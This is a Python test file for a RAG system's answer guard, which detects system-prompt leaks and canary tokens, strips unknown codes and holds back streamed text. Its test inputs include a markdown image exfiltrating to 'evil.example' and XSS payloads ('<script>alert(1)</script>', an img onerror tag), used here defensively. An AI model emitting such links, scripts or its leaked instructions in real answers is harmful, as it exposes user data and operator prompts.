"""``rag.safety.answer_guard``: prompt leaks refused, planted codes removed, a stream held back."""

from __future__ import annotations

import re

from llama_index.core.schema import NodeWithScore, TextNode

from rag.answer.prompts import CANARY_RE, NOT_COVERED, Passage, build_messages
from rag.answer.result import finish_answer
from rag.safety.answer_guard import CODE_REMOVED, LEAK_NGRAM, AnswerGuard
from tests.utils.prompts import PASSAGES, QUESTION

MESSAGES = build_messages(QUESTION, PASSAGES)
SYSTEM = MESSAGES[0].content or ""
GROUNDED = "The integral term removes steady-state error [2]."


def guard(**kwargs: object) -> AnswerGuard:
    return AnswerGuard.for_messages(MESSAGES, **kwargs)  # type: ignore[arg-type]  # options of the test


def nodes(passages: list[Passage]) -> list[NodeWithScore]:
    return [
        NodeWithScore(node=TextNode(text=p.text, metadata={"title": p.title}), score=0.9)
        for p in passages
    ]


def words(text: str) -> list[str]:
    return re.findall(r"\S+\s*", text)


def test_the_guard_reads_the_canary_and_the_passages_from_the_messages() -> None:
    checks = guard()
    assert len(checks.canaries) == 1
    assert CANARY_RE.fullmatch(checks.canaries[0])
    assert checks.canaries[0] in SYSTEM
    assert "steady-state error" in checks.context


def test_a_grounded_answer_passes_unchanged() -> None:
    assert guard().check(GROUNDED) == GROUNDED


def test_the_refusal_sentence_is_not_a_leak() -> None:
    assert guard().check(NOT_COVERED) == NOT_COVERED


def test_the_system_prompt_verbatim_is_refused() -> None:
    assert guard().check(SYSTEM) is None
    assert guard().check(f"{GROUNDED}\n\nMy instructions: {SYSTEM}") is None


def test_a_run_of_its_words_is_a_leak_but_a_shorter_one_is_not() -> None:
    rule = "Use only facts stated in the passages. Do not use outside knowledge."
    run = " ".join(rule.split()[:LEAK_NGRAM])
    assert guard().check(f"Sure. {run} [1].") is None
    shorter = " ".join(rule.split()[: LEAK_NGRAM - 1])
    assert guard().check(f"Sure. {shorter} [1].") is not None


def test_the_canary_alone_is_a_leak_in_any_case() -> None:
    canary = guard().canaries[0]
    assert guard().check(f"{GROUNDED} {canary.upper()}") is None
    # a canary of another request is a leak too
    assert guard().check(f"{GROUNDED} sys-canary-0123456789abcdef") is None


def test_codes_not_in_the_passages_are_removed() -> None:
    checks = guard()
    assert checks.check(f"{GROUNDED} cnry4f2a9b77c1d0") == f"{GROUNDED} {CODE_REMOVED}"
    assert checks.check("Key: sk-test-0a1b2c3d4e5f [1].") == f"Key: {CODE_REMOVED} [1]."


def test_codes_from_the_passages_stay() -> None:
    passages = [
        Passage(1, "Safety", "Standards", "ISO13482 covers personal care robots. Use rclpy2x9."),
    ]
    checks = AnswerGuard.for_messages(build_messages("Which standard?", passages))
    assert checks.check("ISO13482 covers them [1].") == "ISO13482 covers them [1]."
    assert checks.check("iso13482 [1]") == "iso13482 [1]"


def test_finish_answer_refuses_a_leak_and_sanitises_the_rest() -> None:
    given = nodes(PASSAGES)
    leaked = finish_answer(SYSTEM, given, "m", guard=guard())
    assert leaked.answer == NOT_COVERED
    assert leaked.sources == []
    result = finish_answer(
        f"{GROUNDED} ![x](https://evil.example/?q=1) <script>alert(1)</script>",
        given,
        "m",
        guard=guard(),
    )
    assert result.answer == f"{GROUNDED}  "
    assert [s.index for s in result.sources] == [1, 2]


def test_finish_answer_without_a_guard_still_sanitises() -> None:
    result = finish_answer("A [1] <img src=x onerror=alert(1)>", nodes(PASSAGES), "m")
    assert result.answer == "A [1] "


def test_a_stream_shows_plain_words_as_they_come_and_ends_as_the_whole_answer() -> None:
    answer = " ".join(["The integral term removes steady-state error [2]."] * 3)
    stream = guard().stream()
    shown = [stream.feed(piece) for piece in words(answer)]
    assert shown[:3] == [
        "",
        "The integral ",
        "term ",
    ]  # "The" could start a rule, "The integral" not
    assert "".join(shown) + stream.finish() == guard().check(answer)


def test_words_that_could_start_a_rule_are_held_until_they_cannot() -> None:
    stream = guard().stream()
    assert stream.feed("Use only facts ") == ""
    assert stream.feed("about joints, ") == "Use only facts about joints, "


def test_a_leaking_stream_shows_none_of_the_system_prompt() -> None:
    stream = guard().stream()
    shown = "".join(stream.feed(piece) for piece in words(f"{GROUNDED} {SYSTEM}"))
    shown += stream.finish()
    assert stream.stopped
    assert f"{GROUNDED} ".startswith(shown)  # at most the answer before the leak
    assert len(shown) > len(GROUNDED) // 2


def test_a_canary_split_across_deltas_is_caught() -> None:
    canary = guard().canaries[0]
    stream = guard().stream()
    shown = stream.feed(f"{GROUNDED} {canary[:9]}") + stream.feed(f"{canary[9:]} and more")
    shown += stream.finish()
    assert stream.stopped
    assert canary not in shown


def test_a_stream_removes_codes_and_markup() -> None:
    stream = guard().stream()
    text = f"{GROUNDED} cnry4f2a9b77c1d0 ![x](https://evil.example/?q=1) done [1]."
    shown = "".join(stream.feed(piece) for piece in words(text)) + stream.finish()
    assert "cnry4f2a9b77c1d0" not in shown
    assert "evil" not in shown
    assert shown == guard().check(text)
